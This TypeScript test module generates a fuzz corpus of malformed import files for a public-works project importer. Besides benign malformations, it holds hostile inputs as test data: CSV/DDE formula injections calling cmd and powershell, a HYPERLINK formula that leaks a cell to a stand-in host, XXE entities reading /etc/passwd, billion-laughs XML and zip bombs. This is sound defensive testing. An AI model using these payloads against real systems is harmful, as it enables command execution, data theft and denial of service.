import { strToU8, zipSync } from 'fflate';
import { csvOf, pointShapefileZip, SIRGAS_UTM_19S_PRJ, windows1252, xlsxOf, type Cell } from './files.ts';

// The malformed files every importer change is tested against (issue 11): generated, deterministic,
// each one with nothing importable in it, so "the database is unchanged" can be checked after
// committing them all. Each entry names what it attacks.

export interface FuzzFile {
	kind: string;
	name: string;
	bytes: Uint8Array;
}

const HEADER: Cell[] = [
	'Código BIP',
	'Nombre',
	'Servicio',
	'Etapa',
	'Estado',
	'Inversión',
	'Comuna',
	'Latitud',
	'Longitud',
	'Geometría',
	'Fecha inicio'
];
/** A row that would import, but for what each case breaks. */
const GOOD: Cell[] = [
	'',
	'Obra de prueba',
	'Vialidad',
	'Diseño',
	'En curso',
	'1.000.000',
	'',
	'-33,45',
	'-70,65',
	'',
	''
];

function rowWith(changes: Record<number, Cell>): Cell[] {
	return GOOD.map((cell, i) => (i in changes ? changes[i] : cell));
}

/** A small deterministic generator (mulberry32), so the corpus is the same on every run. */
function random(seed: number): () => number {
	let state = seed;
	return () => {
		state = (state + 0x6d2b79f5) | 0;
		let t = Math.imul(state ^ (state >>> 15), 1 | state);
		t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
}

const text = (value: string) => new TextEncoder().encode(value);

function csvCases(): FuzzFile[] {
	const files: FuzzFile[] = [];
	const add = (kind: string, rows: Cell[][], encode: (s: string) => Uint8Array = text, separator = ';') =>
		files.push({
			kind,
			name: `${kind}-${files.length}.csv`,
			bytes: encode(csvOf([HEADER, ...rows], separator))
		});

	const formulas = [
		"=cmd|' /C calc'!A0",
		"=cmd|'/c powershell -e JABzAD0A'!A1",
		'=HYPERLINK("http://ejemplo.invalid/?x="&A1,"ver")',
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		'=1+1',
		'=IMPORTXML("http://ejemplo.invalid","//a")',
		'\t=cmd|x',
		'=DDE("cmd";"/C calc";"!A0")'
	];
	for (const formula of formulas) {
		add('formula-name', [rowWith({ 1: formula })]);
		add('formula-service', [rowWith({ 2: formula })]);
	}
	for (const size of [10_001, 20_000, 100_000, 500_000, 900_000]) {
		add('huge-cell-name', [rowWith({ 1: 'A'.repeat(size) })]);
		add('huge-cell-description', [rowWith({ 1: 'x'.repeat(size), 5: '1'.repeat(Math.min(size, 40)) })]);
	}
	const geometries = [
		'POLYGON((-70.6 -33.4, -70.5 -33.5, -70.6 -33.5, -70.5 -33.4, -70.6 -33.4))', // bow-tie: invalid
		'POLYGON((-70.6 -33.4, -70.5 -33.5, -70.6 -33.5))', // unclosed
		'LINESTRING(-70.6 -33.4)',
		'POINT(abc def)',
		'POINT EMPTY',
		'GEOMETRYCOLLECTION(POINT(-70.6 -33.4))',
		'POINT(-70.6)',
		'MULTIPOLYGON(((-70 -33, -70 -33, -70 -33, -70 -33)))',
		'{"type":"Point","coordinates":[NaN,1]}',
		'{"type":"Point","coordinates":"-70,-33"}',
		'{"type":"Polygon","coordinates":[[[-70,-33]]]}',
		'{"type":"LineString","coordinates":[[-70,-33],[-70.1]]}',
		'{"type":"Feature","geometry":null}',
		'{"type":"Point"}',
		'SRID=32719;POINT(350000 6300000)',
		'POINT(-33.45 -70.65)', // swapped
		'POINT(346000 6297000)', // UTM metres
		'POINT(2.35 48.85)', // Paris
		'POINT(1e400 1e400)',
		'LINESTRING(-70.6 -33.4, -70.5 -33.4, 151.2 -33.9)' // reaches Sydney
	];
	for (const wkt of geometries) add('invalid-geometry', [rowWith({ 7: '', 8: '', 9: wkt })]);
	const coordinates: [Cell, Cell][] = [
		['-70,65', '-33,45'], // swapped columns
		['6300000', '350000'], // UTM northing/easting
		['350000', '6300000'],
		["-33°27'", "-70°39'"],
		['33,45 S', '70,65 O'],
		['-33.450.000', '-70.650.000'],
		['', '-70,65'],
		['-33,45', ''],
		['91', '-70'],
		['-33,45', '-190'],
		['NaN', 'NaN'],
		['Infinity', '-Infinity'],
		['48,85', '2,35'],
		['-90', '0'],
		['1e3', '-7e1']
	];
	for (const [lat, lon] of coordinates) add('bad-coordinates', [rowWith({ 7: lat, 8: lon })]);
	// Duplicate BIP codes: the first row of each code is broken otherwise, so nothing imports.
	for (const bip of ['30123456-0', '30.123.456-0', '1234567-k', '99999-9']) {
		add('duplicate-bip', [
			rowWith({ 0: bip, 3: 'Etapa inexistente' }),
			rowWith({ 0: bip }),
			rowWith({ 0: bip, 1: 'Otra' })
		]);
	}
	for (const value of [
		'12.5 millones',
		'$ -5.000',
		'1,5',
		'mil',
		'12.50.000',
		'1e9',
		'99999999999999999999',
		'—',
		'12 500 000,5'
	]) {
		add('bad-amount', [rowWith({ 5: value })]);
	}
	for (const value of [
		'31-02-2025',
		'2025-13-01',
		'mañana',
		'00/00/0000',
		'1-1-99999',
		'45000,5',
		'2025-02-30T00:00:00Z'
	])
		add('bad-date', [rowWith({ 10: value })]);
	for (const commune of ['Gotham', '99999', 'Santiago | Atlántida', '1', '(50 %)'])
		add('bad-commune', [rowWith({ 6: commune, 7: '', 8: '' })]);
	// Encodings and bytes that are not text at all.
	const rand = random(11);
	for (let i = 0; i < 15; i++) {
		const bytes = new Uint8Array(2000 + Math.floor(rand() * 20_000));
		for (let j = 0; j < bytes.length; j++) bytes[j] = Math.floor(rand() * 256);
		files.push({ kind: 'random-bytes', name: `random-${i}.csv`, bytes });
	}
	add('wrong-encoding-utf16be', [rowWith({ 3: 'Ejecución?' })], (s) => {
		const out = new Uint8Array(s.length * 2);
		for (let i = 0; i < s.length; i++) out[i * 2 + 1] = s.charCodeAt(i) & 0xff;
		return out;
	});
	add('latin1-mojibake', [rowWith({ 3: 'DiseÃ±o', 4: 'En cursÃ³' })], windows1252);
	add('lone-surrogates', [rowWith({ 1: '\ud800\udc00\ud800', 3: '\u0000' })]);
	add('comma-separated-bad', [rowWith({ 3: 'x', 4: 'y' })], text, ',');
	add('tab-separated-bad', [rowWith({ 3: 'x', 4: 'y' })], text, '\t');
	files.push({
		kind: 'unclosed-quote',
		name: 'unclosed.csv',
		bytes: text(csvOf([HEADER]) + '"abc;def\r\n'.repeat(50))
	});
	files.push({ kind: 'header-only', name: 'header-only.csv', bytes: text(csvOf([HEADER])) });
	files.push({ kind: 'empty', name: 'empty.csv', bytes: new Uint8Array(0) });
	files.push({ kind: 'no-known-headers', name: 'headers.csv', bytes: text('a;b;c\n1;2;3\n') });
	files.push({
		kind: 'too-many-columns',
		name: 'wide.csv',
		bytes: text(Array.from({ length: 600 }, (_, i) => `c${i}`).join(';') + '\n')
	});
	// 10 MB on one line: refused once a record passes the CSV ceiling, never buffered whole.
	for (const [i, line] of [
		'x'.repeat(10 * 1024 * 1024),
		'"' + 'y'.repeat(10 * 1024 * 1024),
		'a;'.repeat(5 * 1024 * 1024)
	].entries())
		files.push({ kind: 'ten-megabyte-line', name: `line-${i}.csv`, bytes: text(csvOf([HEADER]) + line) });
	return files;
}

async function xlsxCases(): Promise<FuzzFile[]> {
	const files: FuzzFile[] = [];
	const valid = await xlsxOf([HEADER, rowWith({ 3: 'Etapa inexistente' })]);
	// Truncated at many points: the central directory is at the end, so each is refused as such.
	for (let i = 1; i <= 20; i++)
		files.push({
			kind: 'truncated-xlsx',
			name: `truncated-${i}.xlsx`,
			bytes: valid.subarray(0, Math.floor((valid.length * i) / 21))
		});
	// Billion laughs and external entities in each XML part ExcelJS would read.
	const laughs =
		'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
		'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;">]>';
	const external = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
	const parts = [
		'xl/sharedStrings.xml',
		'xl/worksheets/sheet1.xml',
		'xl/workbook.xml',
		'[Content_Types].xml',
		'xl/styles.xml'
	];
	for (const part of parts)
		for (const [label, prologue] of [
			['billion-laughs', laughs],
			['external-entity', external]
		] as const) {
			const body = `${prologue}<root>&${label === 'billion-laughs' ? 'lol9' : 'xxe'};</root>`;
			files.push({
				kind: `${label}-xlsx`,
				name: `${label}-${part.replace(/\W/g, '_')}.xlsx`,
				bytes: zipSync({
					'[Content_Types].xml': strToU8('<Types/>'),
					'xl/workbook.xml': strToU8('<workbook/>'),
					[part]: strToU8(body)
				})
			});
		}
	// Formula cells without a cached value, in several columns.
	for (const column of [1, 2, 3, 4, 5]) {
		const workbookRow = rowWith({});
		const bytes = await (async () => {
			const { default: ExcelJS } = await import('exceljs');
			const workbook = new ExcelJS.Workbook();
			const sheet = workbook.addWorksheet('Proyectos');
			sheet.addRow(HEADER);
			const row = sheet.addRow(workbookRow);
			row.getCell(column + 1).value = { formula: "cmd|' /C calc'!A0" };
			return new Uint8Array(await workbook.xlsx.writeBuffer());
		})();
		files.push({ kind: 'formula-xlsx', name: `formula-${column}.xlsx`, bytes });
	}
	// A small zip that inflates past any spreadsheet (5 MB of zeros, ratio ≈ 1 000).
	files.push({
		kind: 'zip-bomb',
		name: 'bomb.xlsx',
		bytes: zipSync({ 'xl/sharedStrings.xml': new Uint8Array(5 * 1024 * 1024) }, { level: 9 })
	});
	// A central directory that lies about sizes (declares 3 GB).
	const liar = zipSync({ '[Content_Types].xml': strToU8('<Types/>') });
	const view = new DataView(liar.buffer, liar.byteOffset, liar.byteLength);
	for (let i = liar.length - 22; i >= 0; i--)
		if (view.getUint32(i, true) === 0x02014b50) {
			view.setUint32(i + 24, 0xc0000000, true);
			break;
		}
	files.push({ kind: 'zip-bomb', name: 'lying-sizes.xlsx', bytes: liar });
	files.push({ kind: 'not-a-zip', name: 'text.xlsx', bytes: text('Código BIP;Nombre\n') });
	files.push({
		kind: 'zip-without-workbook',
		name: 'other.xlsx',
		bytes: zipSync({ 'hola.txt': strToU8('hola') })
	});
	files.push({ kind: 'empty-sheet', name: 'empty.xlsx', bytes: await xlsxOf([]) });
	files.push({
		kind: 'old-excel',
		name: 'old.xls',
		bytes: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
	});
	return files;
}

function shapefileCases(): FuzzFile[] {
	const files: FuzzFile[] = [];
	const fields = { NOMBRE: 'Obra', SERVICIO: 'Vialidad', ETAPA: 'Diseño', ESTADO: 'En curso' };
	const good = pointShapefileZip([{ x: 346_000, y: 6_297_000, fields }], SIRGAS_UTM_19S_PRJ);
	for (let i = 1; i <= 10; i++)
		files.push({
			kind: 'truncated-shapefile',
			name: `truncated-${i}.zip`,
			bytes: good.subarray(0, Math.floor((good.length * i) / 11))
		});
	// UTM metres without a .prj: the validator sees metres, not degrees.
	files.push({
		kind: 'shapefile-without-prj',
		name: 'utm-no-prj.zip',
		bytes: pointShapefileZip([{ x: 346_000, y: 6_297_000, fields }], null)
	});
	files.push({
		kind: 'shapefile-bad-prj',
		name: 'bad-prj.zip',
		bytes: pointShapefileZip([{ x: 1, y: 1, fields }], 'PROJCS["nada",FOO[]]')
	});
	files.push({
		kind: 'shapefile-missing-dbf',
		name: 'no-dbf.zip',
		bytes: zipSync({ 'a.shp': good.subarray(0, 10) })
	});
	files.push({
		kind: 'shapefile-garbage',
		name: 'garbage.zip',
		bytes: zipSync({ 'a.shp': strToU8('no es un shp'), 'a.dbf': strToU8('ni un dbf') })
	});
	files.push({
		kind: 'shapefile-bad-stage',
		name: 'bad-stage.zip',
		bytes: pointShapefileZip([{ x: -70.65, y: -33.45, fields: { ...fields, ETAPA: 'nunca' } }], null)
	});
	files.push({
		kind: 'shapefile-outside',
		name: 'outside.zip',
		bytes: pointShapefileZip([{ x: 2.35, y: 48.85, fields }], null)
	});
	return files;
}

function jsonCases(): FuzzFile[] {
	const files: FuzzFile[] = [];
	const add = (kind: string, value: string, ext = 'geojson') =>
		files.push({ kind, name: `${kind}-${files.length}.${ext}`, bytes: text(value) });
	add('json-syntax', '{"type":"FeatureCollection","features":[');
	add('json-syntax', "{'type':'FeatureCollection'}");
	add('json-deep', '['.repeat(100_000) + ']'.repeat(100_000));
	add('json-not-geojson', '{"hola":"mundo"}');
	add('json-not-geojson', '[1,2,3]');
	add('json-not-geojson', 'null');
	add('geojson-empty', '{"type":"FeatureCollection","features":[]}');
	const feature = (
		geometry: unknown,
		properties: Record<string, unknown> = {
			name: 'Obra',
			service_code: 'vialidad',
			stage: 'design',
			status: 'in_progress'
		}
	) => JSON.stringify({ type: 'FeatureCollection', features: [{ type: 'Feature', geometry, properties }] });
	const geometries: unknown[] = [
		{ type: 'Point', coordinates: [] },
		{ type: 'Point', coordinates: [-33.45, -70.65] },
		{ type: 'Point', coordinates: [346000, 6297000] },
		{
			type: 'Polygon',
			coordinates: [
				[
					[-70, -33],
					[-70.1, -33],
					[-70, -33.1]
				]
			]
		},
		{ type: 'GeometryCollection', geometries: [] },
		{ type: 'Circle', coordinates: [-70, -33] },
		{ type: 'Point', coordinates: ['-70', '-33'] },
		{
			type: 'MultiPoint',
			coordinates: [
				[-70, -33],
				[500, 500]
			]
		},
		{
			type: 'Polygon',
			coordinates: [
				[
					[-70.6, -33.4],
					[-70.5, -33.5],
					[-70.6, -33.5],
					[-70.5, -33.4],
					[-70.6, -33.4]
				]
			]
		},
		{ type: 'LineString', coordinates: Array.from({ length: 250_000 }, (_, i) => [-70 - i * 1e-6, -33]) }
	];
	for (const geometry of geometries) add('geojson-geometry', feature(geometry));
	add(
		'geojson-properties',
		feature(
			{ type: 'Point', coordinates: [-70.65, -33.45] },
			{ name: '=cmd|x', service_code: 'vialidad', stage: 'design', status: 'in_progress' }
		)
	);
	add(
		'geojson-properties',
		feature(
			{ type: 'Point', coordinates: [-70.65, -33.45] },
			{ name: { nested: true }, service_code: ['a'], stage: 7, status: null }
		)
	);
	add('geojson-features-not-objects', '{"type":"FeatureCollection","features":[1,"a",null]}');
	add('oc4ids-empty', '{"version":"0.9","projects":[]}', 'json');
	add('oc4ids-not-objects', '{"version":"0.9","projects":[1,2]}', 'json');
	add('oc4ids-missing-fields', '{"version":"0.9","projects":[{"id":"x"}]}', 'json');
	add(
		'oc4ids-unknown-authority',
		JSON.stringify({
			version: '0.9',
			projects: [
				{
					id: 'b',
					title: 'Obra',
					status: 'implementation',
					publicAuthority: { name: 'Ministerio de Magia' }
				}
			]
		}),
		'json'
	);
	add(
		'oc4ids-bad-budget',
		JSON.stringify({
			version: '0.9',
			projects: [
				{
					id: 'c',
					title: 'Obra',
					status: 'implementation',
					publicAuthority: { name: 'Dirección de Vialidad' },
					budget: { amount: { amount: -5, currency: 'CLP' } },
					locations: [{ geometry: { type: 'Point', coordinates: [-70.6, -33.4] } }]
				}
			]
		}),
		'json'
	);
	add(
		'oc4ids-bad-status',
		JSON.stringify({
			version: '0.9',
			projects: [
				{
					id: 'a',
					title: 'Obra',
					status: 'flying',
					publicAuthority: { name: 'Dirección de Vialidad' }
				}
			]
		}),
		'json'
	);
	add('json-latin1', '{"type":"Feature","properties":{"name":"Dise\u00f1o"}}'.replace('ñ', '\u00f1'));
	files.push({
		kind: 'json-invalid-utf8',
		name: 'latin1.geojson',
		bytes: windows1252('{"type":"Feature","properties":{"name":"Diseño"},"geometry":null}')
	});
	return files;
}

function otherCases(): FuzzFile[] {
	return ['pdf', 'exe', 'docx', 'kml', ''].map((ext) => ({
		kind: 'unsupported-format',
		name: ext ? `archivo.${ext}` : 'archivo',
		bytes: text('%PDF-1.4 nada')
	}));
}

export async function fuzzCorpus(): Promise<FuzzFile[]> {
	return [...csvCases(), ...(await xlsxCases()), ...shapefileCases(), ...jsonCases(), ...otherCases()];
}
